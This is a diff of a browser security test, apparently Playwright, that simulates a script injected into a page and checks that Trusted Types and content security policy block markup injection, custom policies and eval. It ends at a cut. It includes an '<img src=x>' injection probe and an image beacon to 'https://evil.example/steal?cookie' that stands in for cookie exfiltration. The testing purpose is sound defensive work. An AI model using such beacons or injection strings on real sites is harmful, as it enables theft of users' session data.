@@ -76,10 +76,9 @@ describe('a script that got into a page', () => {
       const { context, page: shown, violations } = await watched()
       await settled(shown, path)
       const tried = await shown.evaluate(async () => {
-        const reason = (work: () => unknown): string => {
+        const reason = (work: () => unknown): unknown => {
           try {
-            work()
-            return 'done'
+            return work() ?? 'done'
           } catch (error) {
             return (error as Error).name
           }
@@ -91,8 +90,7 @@ describe('a script that got into a page', () => {
           markup: reason(() => {
             const made = document.createElement('div')
             made.innerHTML = '<img src=x>'
-            // On a screen such a string becomes nothing, and no error.
-            if (made.childNodes.length === 0) throw new TypeError('nothing was made')
+            return made.innerHTML || 'nothing'
           }),
           policy: reason(() => trusted.createPolicy('mine', { createHTML: (html: string) => html })),
           source: reason(() => {
@@ -102,7 +100,9 @@ describe('a script that got into a page', () => {
           text: await new Promise((done) => setTimeout(() => done(reason(() => new Function('return 1')())))),
         }
       })
-      expect(tried).toEqual({ markup: 'TypeError', policy: 'TypeError', source: 'TypeError', text: 'EvalError' })
+      // On a screen such a string becomes nothing, without an error (web/lib/trust.ts).
+      const markup = path === '/' ? 'TypeError' : 'nothing'
+      expect(tried).toEqual({ markup, policy: 'TypeError', source: 'TypeError', text: 'EvalError' })
       await shown.evaluate(() => {
         const image = document.createElement('img')
         image.src = 'https://evil.example/steal?cookie'
